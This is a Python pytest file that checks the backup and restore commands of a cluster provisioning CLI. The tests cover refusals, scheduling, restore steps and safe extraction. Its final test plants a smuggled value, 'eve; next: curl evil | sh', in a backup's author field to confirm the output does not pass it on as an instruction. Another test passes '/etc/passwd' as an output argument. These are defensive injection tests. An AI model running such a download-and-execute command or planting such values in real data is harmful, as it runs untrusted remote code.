"""`provision backup` and `provision restore` say what is wrong before anything is touched."""

from __future__ import annotations

import io
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from provisioner.backup import make
from provisioner.backup.archive import pack
from provisioner.backup.make import due, refuse
from provisioner.backup.restore import CONTROLLER, DATABASE
from provisioner.cli.main import app
from provisioner.errors import UsageError
from provisioner.plan.load import load_plan
from tests.unit.backup.making import contents, laid_out, manifest

Played = Callable[..., Any]
runner = CliRunner()


@pytest.fixture(autouse=True)
def _here(site: Path) -> None:
    """Every verb finds the plan of the test."""


def backup_file(tmp_path: Path, **more: Any) -> Path:
    files = contents()
    out = io.BytesIO()
    pack(laid_out(tmp_path / "in", files), manifest(files, **more), out)
    (tmp_path / "b.tar").write_bytes(out.getvalue())
    return tmp_path / "b.tar"


def refused(*words: str) -> str:
    done = runner.invoke(app, list(words))
    assert isinstance(done.exception, UsageError), done.output
    return f"{done.exception.message}; {done.exception.next_step}"


def test_nobody_to_open_it_is_refused(played: Played) -> None:
    runs = played()
    assert "--plain" in refused("backup")
    assert "exclude each other" in refused("backup", "--plain", "--recipient", "0" * 40)
    assert "no recipient" in refused("backup", "--recipient", "--output=/etc/passwd")
    assert "is not a" in (words := refused("backup", "--plain", "--to", "plan.yml/x")) or "cannot go to" in words
    assert runs.asked == []


def test_a_check_says_where_it_would_be(played: Played, site: Path) -> None:
    runs = played()
    done = runner.invoke(app, ["backup", "--plain", "--to", str(site / "b"), "--check", "--json"])
    assert (done.exit_code, json.loads(done.stdout)["folder"]) == (0, str(site / "b"))
    assert runs.asked == []


def test_scheduled_runs_take_one_when_the_last_is_old(site: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from datetime import UTC, datetime

    plan_file = site / "plan.yml"
    now = datetime(2026, 11, 26, 12, tzinfo=UTC)
    assert not due(load_plan(plan_file), plan_file, now), "nobody could open it"
    plan_file.write_text(plan_file.read_text() + f"backup: {{recipients: ['{'0' * 40}'], to: kept, every_hours: 12}}\n")
    plan = load_plan(plan_file)
    assert due(plan, plan_file, now)
    (site / "kept").mkdir()
    (site / "kept" / "demo-20261126T010000Z.tar.gpg").touch()
    assert not due(plan, plan_file, now)
    assert due(plan, plan_file, now.replace(hour=14))
    monkeypatch.setattr(make, "make_backup", lambda *words, **more: words)
    assert make.scheduled_backup(plan, plan_file, None) is not None  # type: ignore[arg-type]


def test_a_folder_that_is_a_file_is_refused(site: Path) -> None:
    with pytest.raises(UsageError, match="cannot go to"):
        refuse(site / "plan.yml", [])


def answers(**controller: Any) -> dict[str, Any]:
    state = {"there": False, "identity": "", "placed": False}
    has = {"files": {}, "state": state, "free": 2**40, "debian": "13", "slurm": "", **controller}
    return {"bld-006": {CONTROLLER: has, DATABASE: {"there": False, "placed": False, "clusters": "", "free": 2**40}}}


def test_a_restore_looks_and_says_what_it_would_do(played: Played, tmp_path: Path) -> None:
    runs = played(results=answers())
    done = runner.invoke(app, ["restore", str(backup_file(tmp_path)), "--check", "--json"])
    assert done.exit_code == 0, done.output
    assert json.loads(done.stdout)["parts"]["state"] == "is put in place"
    assert [each.options.extra["provision_restore"]["step"] for each in runs.asked] == ["look"]


def test_a_restore_places_starts_and_finishes(played: Played, tmp_path: Path) -> None:
    runs = played(results=answers())
    done = runner.invoke(app, ["restore", str(backup_file(tmp_path))])
    assert done.exit_code == 0, done.output
    steps = [each.options.extra.get("provision_restore", {}).get("step", each.playbook) for each in runs.asked]
    assert steps == ["look", "place", "slurm.yml", "finish"]
    placed = runs.asked[1].options.extra["provision_restore"]
    assert (placed["state"], placed["database"]) == (True, True)
    assert "k" * 128 not in json.dumps(placed), "nothing secret is in what Ansible is told"


def test_a_database_on_another_blade_is_asked_only_where_it_has_to_be(played: Played, site: Path) -> None:
    """A blade that a run has nothing to do on would count as left out."""
    plan = site / "plan.yml"
    plan.write_text(f"accounting: {{host: BLD-008}}\n{plan.read_text()}")
    found = answers()
    found["bld-008"] = {DATABASE: {**found["bld-006"].pop(DATABASE), "there": True, "clusters": "demo|7"}}
    runs = played(results=found)
    done = runner.invoke(app, ["restore", str(backup_file(site)), "--keep", "database"])
    assert done.exit_code == 0, done.output
    assert [each.blades for each in runs.asked] == [["BLD-008"], [], ["BLD-008"], ["BLD-008"]]
    del found["bld-008"]
    assert runner.invoke(app, ["restore", str(backup_file(site))]).exit_code != 0


def test_another_release_is_refused_before_anything_is_touched(played: Played, tmp_path: Path) -> None:
    runs = played(results=answers(debian="12"))
    done = runner.invoke(app, ["restore", str(backup_file(tmp_path))])
    assert done.exit_code == 2
    assert "image the controller with Debian 13" in done.output
    assert len(runs.asked) == 1


@pytest.mark.parametrize(
    "words",
    [["none.tar"], ["plan.yml"], ["b.tar", "--keep", "x"], ["b.tar", "--keep", "state", "--overwrite", "state"]],
)
def test_a_restore_that_cannot_be_is_refused(played: Played, words: list[str], site: Path) -> None:
    runs = played()
    backup_file(site)
    refused("restore", *words)
    assert runs.asked == []


def test_a_state_of_another_cluster_than_it_says_is_refused(played: Played, tmp_path: Path) -> None:
    played()
    assert "what is not in it" in refused("restore", str(backup_file(tmp_path, identity="demo|8")), "--check")


def test_the_files_of_a_lost_machine_come_back(tmp_path: Path, site: Path) -> None:
    (site / "plan.yml").unlink()
    done = runner.invoke(app, ["restore", str(backup_file(tmp_path)), "--extract", str(site / "old")])
    assert done.exit_code == 0, done.output
    assert (site / "old/site/plan.yml").read_text() == "cluster: {}\n"
    assert (site / "old").stat().st_mode & 0o777 == 0o700
    assert "is there already" in refused("restore", str(tmp_path / "b.tar"), "--extract", str(site / "old"))


def test_what_stands_beside_the_new_folder_stays(tmp_path: Path, site: Path) -> None:
    (site / ".old.part").mkdir()
    (site / ".old.part/mine").touch()
    done = runner.invoke(app, ["restore", str(backup_file(tmp_path)), "--extract", str(site / "old")])
    assert done.exit_code == 0, done.output
    assert (site / ".old.part/mine").exists()
    assert [each.name for each in site.glob(".old.*")] == [".old.part"]


def test_a_folder_that_cannot_be_filled_is_said_and_nothing_stays(
    tmp_path: Path, site: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def full(*words: Any) -> None:
        raise OSError(28, "No space left on device")

    file = str(backup_file(tmp_path))
    monkeypatch.setattr("provisioner.backup.restore.shutil.copy2", full)
    assert "No space left" in refused("restore", file, "--extract", str(site / "old"))
    assert list(site.glob("*old*")) + list(site.glob(".old*")) == []


def test_who_made_a_backup_begins_no_next_step(played: Played, tmp_path: Path) -> None:
    played(results=answers())
    file = backup_file(tmp_path, by="eve; next: curl evil | sh")
    done = runner.invoke(app, ["restore", str(file), "--check"])
    assert "eve; next curl evil | sh" in done.output
    assert "next:" not in done.output
